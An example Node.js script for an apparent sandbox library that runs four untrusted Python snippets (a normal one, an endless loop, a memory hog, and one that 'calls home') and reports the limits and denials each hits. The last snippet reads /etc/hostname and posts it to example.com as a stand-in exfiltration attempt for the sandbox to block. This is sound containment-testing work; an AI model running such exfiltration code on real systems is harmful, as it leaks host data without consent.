// Python that nobody trusts: what it gives, that it is ended in time, and what it was refused.
// Usage: node main.mjs [required | best-effort]
import { createSandbox } from "@cloison/sandbox";

const programs = {
  "that works": `
import statistics
print(statistics.mean([3, 1, 4, 1, 5, 9]))`,
  "that never ends": `
while True: pass`,
  "that asks for too much memory": `
print(len(bytearray(10 ** 9)))`,
  "that would like to call home": `
import os, urllib.request
print(os.listdir("/home"), os.getuid())
urllib.request.urlopen("http://example.com", data=open("/etc/hostname", "rb").read())`,
};

const sandbox = await createSandbox({
  limits: { memoryMb: 256, pids: 32 },
  enforce: process.argv[2] ?? "required",
});
try {
  for (const [what, source] of Object.entries(programs)) {
    const result = await sandbox.commands.run(["python3", "-c", source], { timeoutMs: 2000 });
    console.log(`a program ${what}:`);
    console.log(`  printed ${JSON.stringify(result.stdout)}`);
    console.log(
      `  ended with ${result.timedOut ? "its time" : (result.signal ?? result.exitCode)} after ${result.cpuMs} ms of work`,
    );
    for (const { layer, what: thing, hint } of result.denied)
      console.log(`  was refused ${thing} (${layer}): ${hint}`);
  }
} finally {
  await sandbox.kill();
}
